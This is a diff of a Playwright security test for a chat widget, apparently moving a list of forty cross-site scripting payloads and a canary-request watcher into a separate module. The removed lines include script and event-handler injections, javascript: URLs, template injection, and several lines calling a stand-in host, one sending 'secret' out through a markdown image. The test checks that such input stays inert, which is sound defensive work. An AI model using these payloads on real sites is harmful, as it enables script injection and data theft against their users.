@@ -1,4 +1,4 @@
-import type { Page } from '@playwright/test';
+import { CANARY, PAYLOADS, watchFor } from './hostile.ts';
 import { expect, post, test } from './people.ts';
 import { badge, chat, frameOf, launcher, openShop, openSite, write, type Site } from './widget-shop.ts';
 
@@ -8,61 +8,6 @@ test.beforeAll(async ({ baseURL }) => {
 });
 test.afterAll(() => site.close());
 
-const CANARY = 'canary.example';
-const PAYLOADS = [
-  '<script>alert(1)</script>',
-  `<img src=x onerror="fetch('http://${CANARY}/')">`,
-  `<svg onload=alert(1)>`,
-  `<svg><script href="data:,alert(1)"/>`,
-  `<iframe src="javascript:alert(1)"></iframe>`,
-  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-  `<body onload=alert(1)>`,
-  `<input autofocus onfocus=alert(1)>`,
-  `<details open ontoggle=alert(1)>`,
-  `<video><source onerror=alert(1)></video>`,
-  `<audio src=x onerror=alert(1)>`,
-  `<math href="javascript:alert(1)">x</math>`,
-  `<link rel=stylesheet href=http://${CANARY}/x.css>`,
-  `<style>@import 'http://${CANARY}/x.css'</style>`,
-  `<base href="http://${CANARY}/">`,
-  `<meta http-equiv=refresh content="0;url=http://${CANARY}/">`,
-  `<object data="javascript:alert(1)"></object>`,
-  `<embed src="http://${CANARY}/x.swf">`,
-  `<form action="http://${CANARY}/"><button>go</button></form>`,
-  `<a href="javascript:alert(1)">click</a>`,
-  'javascript:alert(1)',
-  'JaVaScRiPt:alert(1)',
-  'java\tscript:alert(1)',
-  'data:text/html,<script>alert(1)</script>',
-  'vbscript:msgbox(1)',
-  `![secret](http://${CANARY}/?d=secret)`,
-  `[click](javascript:alert(1))`,
-  `[click](http://${CANARY}/)`,
-  `**<img src=http://${CANARY}/x.png>**`,
-  '- <img src=x onerror=alert(1)>',
-  '"><script>alert(1)</script>',
-  "'-alert(1)-'",
-  '</textarea><script>alert(1)</script>',
-  '</script><script>alert(1)</script>',
-  '${alert(1)}',
-  '{{constructor.constructor("alert(1)")()}}',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '\u2028<script>alert(1)</script>',
-  '<img src="x` `<script>alert(1)</script>"` `>',
-];
-
-/** Whatever a page does that it must not do: run someone's script, or call someone else's host. */
-function watchFor(page: Page): string[] {
-  const seen: string[] = [];
-  page.on('dialog', (dialog) => {
-    seen.push(`dialog ${dialog.message()}`);
-    void dialog.dismiss();
-  });
-  page.on('request', (request) => request.url().includes(CANARY) && seen.push(request.url()));
-  return seen;
-}
-
 test('forty hostile texts, names and file names stay texts', async ({ page, browser, baseURL }) => {
   test.setTimeout(120_000);
   expect(PAYLOADS).toHaveLength(40);
@@ -71,7 +16,7 @@ test('forty hostile texts, names and file names stay texts', async ({ page, brow
     texts: [{ locale: 'en', title: hostile, subtitle: hostile, greeting: hostile, launcher: hostile }],
     fields: [{ name: 'name', type: 'text', is_required: true, labels: [{ locale: 'en', text: hostile }] }],
   });
-  const seen = watchFor(page);
+  const seen = watchFor(page, site.url, baseURL ?? '');
   await page.goto(`${site.url}/?key=${shop.key}`);
   await launcher(page).click();
   await chat(page).getByRole('textbox', { name: hostile }).fill('</script><script>alert(1)</script>');
